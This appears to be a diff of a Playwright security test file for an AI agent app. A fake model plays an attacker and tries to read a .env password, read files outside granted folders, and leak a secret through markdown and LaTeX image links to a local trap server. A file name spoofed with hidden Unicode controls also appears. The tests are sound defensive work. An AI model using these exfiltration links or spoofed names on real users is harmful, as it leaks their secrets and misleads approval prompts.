@@ -4,65 +4,51 @@ import type { AddressInfo } from 'node:net'
 import { join } from 'node:path'
 import { AxeBuilder } from '@axe-core/playwright'
 import { expect, test } from '@playwright/test'
-import { answers, card, decide, goTo, idle, newChat, openApp, send } from '../support/app-page'
-import {
-  answer,
-  type FakeMessagesApi,
-  startFakeMessagesApi,
-  text,
-  toolUse,
-} from '../support/fake-messages-api'
-import { freshFolder, type RunningHost, startHost } from '../support/start-host'
+import { answers, card, decide, goTo, idle, send } from '../support/app-page'
+import { answer, text, toolUse } from '../support/fake-messages-api'
+import { setUpModelDesk } from '../support/model-desk'
+import { freshFolder } from '../support/start-host'
 
 // The fake server is the attacker: the model always does what a hostile text asks for.
 
 test.describe('a model that obeys hostile text', () => {
-  let api: FakeMessagesApi
-  let host: RunningHost
   let trap: Server
   let trapped: string[]
   let home: string
-  let work: string
+  const desk = setUpModelDesk({
+    work() {
+      home = realpathSync(freshFolder('home'))
+      const work = join(home, 'work')
+      mkdirSync(join(home, 'papers'), { recursive: true })
+      mkdirSync(work)
+      writeFileSync(join(work, '.env'), 'PASSWORD=hunter-7f3a\n')
+      writeFileSync(join(home, 'papers/plan.txt'), 'The plan of 7f3a.\n')
+      writeFileSync(join(home, 'papers/more.txt'), 'More of it.\n')
+      return work
+    },
+    environment: () => ({ HOME: home }),
+  })
 
   test.beforeAll(async () => {
-    api = await startFakeMessagesApi()
-    home = realpathSync(freshFolder('home'))
-    work = join(home, 'work')
-    mkdirSync(join(home, 'papers'), { recursive: true })
-    mkdirSync(work)
-    writeFileSync(join(work, '.env'), 'PASSWORD=hunter-7f3a\n')
-    writeFileSync(join(home, 'papers/plan.txt'), 'The plan of 7f3a.\n')
-    writeFileSync(join(home, 'papers/more.txt'), 'More of it.\n')
     trap = createServer((request, response) => {
       trapped.push(request.url ?? '')
       response.end('caught')
     })
     await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve))
-    const environment = {
-      HOME: home,
-      ANTHROPIC_BASE_URL: api.url,
-      ANTHROPIC_API_KEY: 'test-key',
-      COUNTERSIGN_MODEL: 'fake-model',
-    }
-    host = await startHost({ roots: [work], environment })
   })
-  test.afterAll(async () => {
-    await host.stop()
-    await api.close()
+  test.afterAll(() => {
     trap.close()
-    for (const folder of [host.data, home]) rmSync(folder, { recursive: true, force: true })
+    rmSync(home, { recursive: true, force: true })
   })
-  test.beforeEach(async ({ page }) => {
+  test.beforeEach(() => {
     trapped = []
-    await openApp(page, host.url)
-    await newChat(page)
   })
 
-  const sent = () => JSON.stringify(api.created.at(-1)?.messages.at(-1))
+  const sent = () => JSON.stringify(desk.api.created.at(-1)?.messages.at(-1))
 
   test('reads a secret only after a yes to a card that names it', async ({ page }) => {
-    const path = join(work, '.env')
-    api.push(answer([toolUse('read_file', { path })]), answer([text('Done.')]))
+    const path = desk.at('.env')
+    desk.api.push(answer([toolUse('read_file', { path })]), answer([text('Done.')]))
     await send(page, 'What is in it?')
     const question = card(page, '.env')
     await expect(question).toContainText('may hold passwords or keys')
@@ -81,7 +67,7 @@ test.describe('a model that obeys hostile text', () => {
   })
 
   test('does not read it after a no, and says why to the model', async ({ page }) => {
-    api.push(answer([toolUse('read_file', { path: join(work, '.env') })]), answer([text('All right.')]))
+    desk.api.push(answer([toolUse('read_file', { path: desk.at('.env') })]), answer([text('All right.')]))
     await send(page, 'What is in it?')
     await card(page, '.env').getByRole('button', { name: 'Don’t allow' }).click()
     await card(page, '.env')
@@ -97,7 +83,7 @@ test.describe('a model that obeys hostile text', () => {
 
   test('asks for what lies outside the granted folders, and a yes may grant the folder', async ({ page }) => {
     const [plan, more] = [join(home, 'papers/plan.txt'), join(home, 'papers/more.txt')]
-    api.push(
+    desk.api.push(
       answer([toolUse('read_file', { path: plan })]),
       answer([toolUse('read_file', { path: more })]),
       answer([text('Done.')]),
@@ -118,7 +104,7 @@ test.describe('a model that obeys hostile text', () => {
   })
 
   test('is approved among the safe ones by no button for all of them', async ({ page }) => {
-    api.push(answer([toolUse('read_file', { path: join(work, '.env') })]), answer([text('Done.')]))
+    desk.api.push(answer([toolUse('read_file', { path: desk.at('.env') })]), answer([text('Done.')]))
     await send(page, 'Read it')
     await expect(card(page, '.env')).toBeVisible()
     await goTo(page, 'Inbox')
@@ -150,11 +136,11 @@ test.describe('a model that obeys hostile text', () => {
       `$$\\href{${address}/math}{x} \\includegraphics{${address}/math2}$$`,
     ].join('\n\n')
     const name = `![x](${encodeURIComponent(address)}).md`
-    writeFileSync(join(work, name), `# ![title](${address}/file?${secret})\n`)
-    api.push(
+    writeFileSync(desk.at(name), `# ![title](${address}/file?${secret})\n`)
+    desk.api.push(
       // In pieces of a few characters: no boundary between two may let something through.
-      answer([text(words.match(/[\s\S]{1,5}/g) ?? []), toolUse('read_file', { path: join(work, name) })]),
-      answer([toolUse('create_file', { path: join(work, 'leak.html'), content: words }), text(words)]),
+      answer([text(words.match(/[\s\S]{1,5}/g) ?? []), toolUse('read_file', { path: desk.at(name) })]),
+      answer([toolUse('create_file', { path: desk.at('leak.html'), content: words }), text(words)]),
       answer([text(words)]),
     )
     await send(page, `![mine](${address}/mine)`)
@@ -171,15 +157,15 @@ test.describe('a model that obeys hostile text', () => {
     await expect(page.getByText('leak.html').first()).toBeVisible()
     expect(trapped).toEqual([])
     expect(
-      asked.filter((url) => !url.startsWith(new URL(host.url).origin) && !/^(data|blob):/.test(url)),
+      asked.filter((url) => !url.startsWith(new URL(desk.host.url).origin) && !/^(data|blob):/.test(url)),
     ).toEqual([])
   })
 
   test('shows hidden characters in every approval text, with a warning', async ({ page }) => {
     const hostile = 'invoice\u202egpj.\u2066exe\u200b\u{e0041}\u0007.txt'
     const marks = ['U+202E', 'U+2066', 'U+200B', 'U+E0041', 'U+0007']
-    api.push(
-      answer([toolUse('create_file', { path: join(work, hostile), content: `a\u202eb\u200bc\n` })]),
+    desk.api.push(
+      answer([toolUse('create_file', { path: desk.at(hostile), content: `a\u202eb\u200bc\n` })]),
       answer([text('Done.')]),
     )
     await send(page, 'Make it')
@@ -201,7 +187,7 @@ test.describe('a model that obeys hostile text', () => {
     await shown.getByRole('button', { name: 'Reject' }).click()
     await page.getByRole('button', { name: /^Reject/ }).click()
     await idle(page)
-    expect(existsSync(join(work, hostile))).toBe(false)
-    expect(readFileSync(join(work, '.env'), 'utf8')).toContain('hunter')
+    expect(existsSync(desk.at(hostile))).toBe(false)
+    expect(readFileSync(desk.at('.env'), 'utf8')).toContain('hunter')
   })
 })
